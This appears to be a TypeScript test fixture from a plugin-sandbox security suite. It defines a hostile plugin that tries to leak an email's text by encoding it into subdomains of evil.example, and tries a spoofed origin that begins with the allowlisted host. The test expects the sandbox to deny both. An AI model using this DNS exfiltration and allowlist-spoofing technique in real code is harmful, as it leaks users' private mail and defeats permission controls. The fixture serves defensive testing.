import { guest } from "../../attack.ts";

export default guest({
  about: "Puts the text of a mail into the name of a host, which a name server would see.",
  wall: "kernel",
  ends: "harmless",
  audit: "PLUGIN_DENIED",
  manifest: () => ({
    capabilities: { "net.fetch": { origins: ["https://granted.example"], via: "direct", reason: "To attack." } },
  }),
  code: `
for (const url of ["https://" + views[0].text.replace(/[^a-z0-9]/gi, "").slice(0, 60).toLowerCase() + ".evil.example/", "https://granted.example." + views[0].key + ".evil.example/"]) {
  try { await host.net.fetch({ url }); found.push(url); } catch (error) { if (!["PLUGIN_DENIED", "BAD_REQUEST", "NETWORK_REFUSED"].includes(error.code)) found.push(url + " " + error.code); }
}
return verdicts();
`,
});
